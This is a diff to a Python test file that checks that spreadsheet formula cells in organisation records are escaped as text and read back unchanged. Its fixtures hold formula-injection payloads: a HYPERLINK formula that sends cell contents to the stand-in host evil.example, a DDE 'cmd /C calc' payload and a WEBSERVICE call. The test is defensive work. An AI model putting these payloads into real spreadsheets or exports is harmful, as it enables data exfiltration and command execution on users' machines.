@@ -111,7 +111,8 @@ async def load_formulas(store: Store) -> None:
             "#org+id": f"f{n}", "#org+name": f'{start}HYPERLINK("https://evil.example/?x="&A1,"Click")',
             "#org+alt+name": f"{start}SUM(1,2)|{start}cmd|' /C calc'!A0", "#org+type": "national-ngo",
             "#description": f"{start}2+3 is what they say", "#org+url": f"https://example.org/?q==A{n}",
-            "#org+lang": "es", "#channel+contact": f"phone:+57 1 234 {n}|email:{start}x@example.org",
+            # a channel whose kind takes any text (an email address must have an email's shape)
+            "#org+lang": "es", "#channel+contact": f"phone:+57 1 234 {n}|wire:{start}x@example.org",
             "#org+code": f"GB-CHC:{start}{n}", "#country+code": "CO", "#geo+lat": "-4.5", "#geo+lon": "-74.07",
             "#geo+precision": "locality", "#meta+visibility": "public", "#meta+source": f"{start}WEBSERVICE(x)"})
         services.append({
@@ -149,7 +150,7 @@ async def test_formula_cells_are_written_as_text_and_read_back_as_they_were(stor
     assert organisations["test:f0"]["#org+name"] == "'=HYPERLINK(\"https://evil.example/?x=\"&A1,\"Click\")"
     assert organisations["test:f0"]["#org+alt+name"] == "'=SUM(1,2)|=cmd|' /C calc'!A0"
     assert organisations["test:f9"]["#org+name"].startswith("''=HYPERLINK")
-    assert organisations["test:f0"]["#channel+contact"] == "phone:+57 1 234 0|email:=x@example.org"
+    assert organisations["test:f0"]["#channel+contact"] == "phone:+57 1 234 0|wire:=x@example.org"
     assert (organisations["test:plain"]["#org+name"], organisations["test:plain"]["#org+alt+name"],
             organisations["test:plain"]["#geo+lon"], organisations["test:f0"]["#geo+lat"]) == (
         "-5", "+3.5", "-74.07", "-4.5")
